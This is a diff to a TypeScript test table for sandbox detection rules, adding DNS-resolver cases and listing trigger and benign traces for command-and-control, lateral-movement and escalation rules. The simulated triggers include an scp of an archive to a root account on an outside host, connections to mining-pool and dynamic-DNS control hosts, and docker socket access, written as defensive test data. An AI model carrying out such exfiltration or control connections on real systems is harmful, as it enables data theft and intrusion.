@@ -162,6 +162,8 @@ export const CASES: RuleCase[] = [
     benign: (s) => s.open(s.run('/usr/bin/cat', ['cat', '/proc/net/protocols']), '/proc/net/protocols', O.r) },
   // command and control, lateral movement, exfiltration
   { id: 'ST-C2-001', trigger: (s) => s.connect(1, '203.0.113.9', 443), benign: (s) => s.connect(1, '127.0.0.1', 8080, 0) },
+  // a lookup through the sandbox's resolver is no connection out; the sample's own resolver is
+  { id: 'ST-C2-001', trigger: (s) => s.connect(1, '8.8.8.8', 53), benign: (s) => s.connect(1, '192.0.2.53', 53, 0) },
   { id: 'ST-C2-002', trigger: (s) => s.connect(1, '203.0.113.9', 3333), benign: (s) => s.connect(1, '203.0.113.9', 443) },
   { id: 'ST-C2-010', trigger: (s) => s.connect(1, s.lookup('gulf.moneroocean.stream'), 443), benign: (s) => s.connect(1, s.lookup('www.moneroocean-news.example'), 443) },
   { id: 'ST-C2-011', trigger: (s) => s.connect(1, s.lookup('c2-x8k.duckdns.org'), 8080), benign: (s) => { s.lookup('c2-x8k.duckdns.org'); s.connect(1, s.lookup('duckdns.org.example'), 8080); } },
@@ -177,6 +179,9 @@ export const CASES: RuleCase[] = [
     benign: (s) => { const fd = s.socket(1, 1, 1); s.sys(1, 'listen', [fd, 1], 0); } },
   { id: 'ST-C2-009', trigger: (s) => { const fd = s.socket(1, 2, 2); s.sys(1, 'sendto', [fd, 0, 5, 0, 0, 16], 5, { addr: { family: 'inet', address: '203.0.113.9', port: 53 } }); },
     benign: (s) => { const fd = s.socket(1, 2, 2); s.sys(1, 'sendto', [fd, 0, 5, 0, 0, 16], 5, { addr: { family: 'inet', address: '127.0.0.53', port: 53 } }); } },
+  // musl's resolver sends each lookup with sendto: to the sandbox's resolver, no datagram out
+  { id: 'ST-C2-009', trigger: (s) => { const fd = s.socket(1, 2, 2); s.sys(1, 'sendto', [fd, 0, 5, 0, 0, 16], 5, { addr: { family: 'inet', address: '192.0.2.53', port: 5353 } }); },
+    benign: (s) => { const fd = s.socket(1, 2, 2); s.sys(1, 'sendto', [fd, 0, 5, 0, 0, 16], 5, { addr: { family: 'inet', address: '192.0.2.53', port: 53 } }); } },
   { id: 'ST-LAT-001', trigger: (s) => s.run('/usr/bin/scp', ['scp', 'data.tgz', 'root@198.51.100.3:/tmp/']), benign: (s) => s.run('/usr/bin/scp', ['scp', 'a', 'b']) },
   { id: 'ST-LAT-002', trigger: (s) => s.sys(1, 'socket', [17, 3, 768], -1), benign: (s) => s.sys(1, 'socket', [2, 1, 0], 3) },
   { id: 'ST-ESC-005', trigger: (s) => s.connectUnix(1, '/var/run/docker.sock', -2), benign: (s) => s.connectUnix(1, '/run/dbus/system_bus_socket', -2) },
